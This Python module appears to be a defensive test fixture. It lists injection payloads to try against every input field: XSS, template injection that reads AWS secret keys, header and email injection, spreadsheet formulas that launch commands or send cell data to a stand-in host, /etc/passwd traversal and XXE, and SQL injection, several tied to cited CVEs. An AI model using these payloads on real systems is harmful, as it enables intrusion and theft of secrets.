"""What hostile people really type: each is tried in every field that there is, and what comes of it is looked at.

Those with a number were found in tools like ours, or in what these are built on.
"""

from collections.abc import Mapping

MARK = "pwned"
"""What a payload that is let to run leaves behind, and stands in each that could leave anything."""

MARKUP = (
    f"<script>window.{MARK}=1</script>",
    f'"><script>window.{MARK}=1</script>',
    f"'><img src=x onerror=window.{MARK}=1>",
    f"<svg/onload=window.{MARK}=1>",
    f"</textarea><script>window.{MARK}=1</script>",
    f"</title><script>window.{MARK}=1</script>",
    f"</style><script>window.{MARK}=1</script>",
    f"</script><script>window.{MARK}=1</script>",
    f"<!--<script>window.{MARK}=1//",
    f"--><img src=x onerror=window.{MARK}=1>",
    f"]]><script>window.{MARK}=1</script>",
    f'" autofocus onfocus=window.{MARK}=1 x="',
    f"` onmouseover=window.{MARK}=1 `",
    f"<{MARK} style=animation-name:x onanimationend=window.{MARK}=1>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<base href=https://{MARK}.example/><form action=https://{MARK}.example/><input name=csrf>",
    f"<meta http-equiv=refresh content='0;url=https://{MARK}.example/'>",
    f"<link rel=stylesheet href=https://{MARK}.example/x.css>",
    f"<img src='https://{MARK}.example/?",  # what follows it would be told to somebody else
    f"<button formaction=https://{MARK}.example/>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.{MARK}=1&gt;'>",
    f"&lt;script&gt;window.{MARK}=1&lt;/script&gt;",
    f"\\u003cscript\\u003ewindow.{MARK}=1\\u003c/script\\u003e",
    f"<!'/*\"/*\\'/*\\\"/*--></Script><Image Srcset=K */; Onerror=window.{MARK}=1 //>",  # open-event-server #4624
    f"Delete <b onmouseover=window.{MARK}=1>this?</b>",  # Indico CVE-2023-37901: titles in confirmations
    f"<i>{MARK}</i>",  # pretix CVE-2024-8113: names in previews of mails
    f"<a href=https://{MARK}.example>Sign in</a>",  # Hi.Events #1073: organisers' words in mails
    f"'-window.{MARK}-'",  # pretalx GHSA-cjcx-jfp2-f7m2: names in search results
)
LINKS = (
    f"javascript:window.{MARK}=1",
    f"JaVaScRiPt:window.{MARK}=1//https://a.example",
    f"java\tscript:window.{MARK}=1",
    f"\x01javascript:window.{MARK}=1",
    f"data:text/html,<script>window.{MARK}=1</script>",
    f"vbscript:{MARK}",
    f'https://a.example/" onclick="window.{MARK}=1',
    f"https://rapport.example@{MARK}.example/",
    f"//{MARK}.example/",
    f"[a](javascript:window.{MARK}=1)",
    f'![a](https://a.example/x"onerror="window.{MARK}=1)',
    f"<javascript:window.{MARK}=1>",
    f"[a]: javascript:window.{MARK}=1\n[a]",
    f"[a](<data:text/html,%3Cscript%3Ewindow.{MARK}=1%3C/script%3E>)",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{% for one in ().__class__.__base__.__subclasses__() %}{{one}}{% endfor %}",
    '{{ env "AWS_SECRET_ACCESS_KEY" }}',  # listmonk CVE-2025-49136
    "{name.__init__.__globals__}",
    "%(name)s %s %n {0}",
    "{{signup.url}} {{event.join_url}}",
    "{{signup.url.__class__}}",
    "{{name",
)
HEADERS = (
    f"Eve\r\nBcc: {MARK}@example.com\r\n\r\n<b>body</b>",
    f"Eve\nX-{MARK}: 1",
    f"Eve%0d%0aX-{MARK}:%201",
    f"=?utf-8?q?Eve=0D=0AX-{MARK}:_1?=",
    f"Eve\u2028X-{MARK}: 1",
    f"Eve\x85X-{MARK}: 1",
    f"Eve <{MARK}@example.com>,",
    f'"Eve" <{MARK}@example.com>, x',
    f"a@example.org,{MARK}@example.org",
    f"a@example.org\r\nBcc: {MARK}@example.org",
    f"{MARK}%40evil.example@example.org",
    f'"<script>{MARK}"@example.org',
    f"a@example.org?bcc={MARK}@example.org",
    f"https://{MARK}.example/\r\nSet-Cookie: {MARK}=1",
)
CELLS = (
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("https://{MARK}.example?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(1+1)",
    "  =1+1",
    "ok;=1+1",
    '"=1+1"',
    'a","=1+1',
    "a\n=1+1",
)
CALENDARS = (
    f"Talk\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:{MARK}",
    f"Talk\r\nATTENDEE:mailto:{MARK}@example.com",
    f"Talk\\nATTACH:https://{MARK}.example/",
    f"Talk;X-{MARK}=1:a,b\\,c",
    f"BEGIN:VALARM\nTRIGGER:-PT1M\nATTACH:https://{MARK}.example/\nEND:VALARM",
)
PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd%00.png",
    "demo/../other",
    "%2e%2e/%2e%2e/",
    "con",
    ".",
)
LETTERS = (
    "\u202etxt.exe",
    "\u200b\u200c\u200d\ufeff",
    "\u2066Ada\u2069 \u200f",
    "раypаl.example",  # Cyrillic letters that look like Latin ones
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "👩‍❤️‍💋‍👨🏳️‍⚧️👨‍👩‍👧‍👦",
    "\U000e0041\U000e0042\U000e007f",
    "\ufdfa\ufffd\ufffe\uffff",
    "İstanbul ß ﬀ ſ K",
    "\u2028\u2029",
    "𝒜𝒹𝒶",
    "ا" * 60 + "\u0670" * 60,
)
CONTROLS = ("\x00", "Ada\x00", "\x1b[31mAda\x1b[0m", "\x07\x08\x7f", "\x9d0;Ada\x9c", "\r", "\n", " ", "\u3000")
QUERIES = (
    "' OR '1'='1' --",
    '"; DROP TABLE contacts; --',
    "1); SELECT pg_sleep(9); --",  # listmonk CVE-2025-46011
    '{"$ne": null}',
    '{"S": "G#other#ADMIN"}',
    "G#other#ADMIN",
    "attribute_exists(pk) OR :x = #pk",
    "*",
    "%",
)
WORDS_OF_MACHINES = (
    "__proto__",
    "constructor.prototype.polluted",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "-1",
    "1e309",
    "0x10",
    "٣",
    "2026-02-30T25:61:00",
    '","role":"owner","x":"',
    '\n{"level":"ERROR","message":"' + MARK + '"}',
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY {MARK} SYSTEM "file:///etc/passwd">]><x>&{MARK};</x>',
    "rk_local_demo",
)
LONG = (
    "A" * 200,
    "A" * 201,
    "W" * 20_001,
    "\n" * 1_000,
    "🏳️‍🌈" * 33,
    "<script" * 28,  # LiquidJS CVE-2026-45617: what strips tags never ends
    "[" * 200,
    "*_`~" * 50,
    "((" * 100,
    "> " * 100,
    "![[[[](((" * 20,
)
PAYLOADS: tuple[str, ...] = (
    *MARKUP,
    *LINKS,
    *TEMPLATES,
    *HEADERS,
    *CELLS,
    *CALENDARS,
    *PATHS,
    *LETTERS,
    *CONTROLS,
    *QUERIES,
    *WORDS_OF_MACHINES,
    *LONG,
)
REQUEST_HEADERS: Mapping[str, str] = {
    "host": f"{MARK}.example",  # Indico CVE-2021-30185: links in mails lead where the request said
    "x-forwarded-host": f"{MARK}.example",
    "x-forwarded-proto": "javascript",
    "x-forwarded-for": f"<script>window.{MARK}=1</script>",
    "x-original-url": "/v1/groups/other",
    "user-agent": f"<script>window.{MARK}=1</script>",
    "referer": f"https://{MARK}.example/",
    "accept-language": f"en\r\nX-{MARK}: 1",
}
"""Headers that say what is not so."""
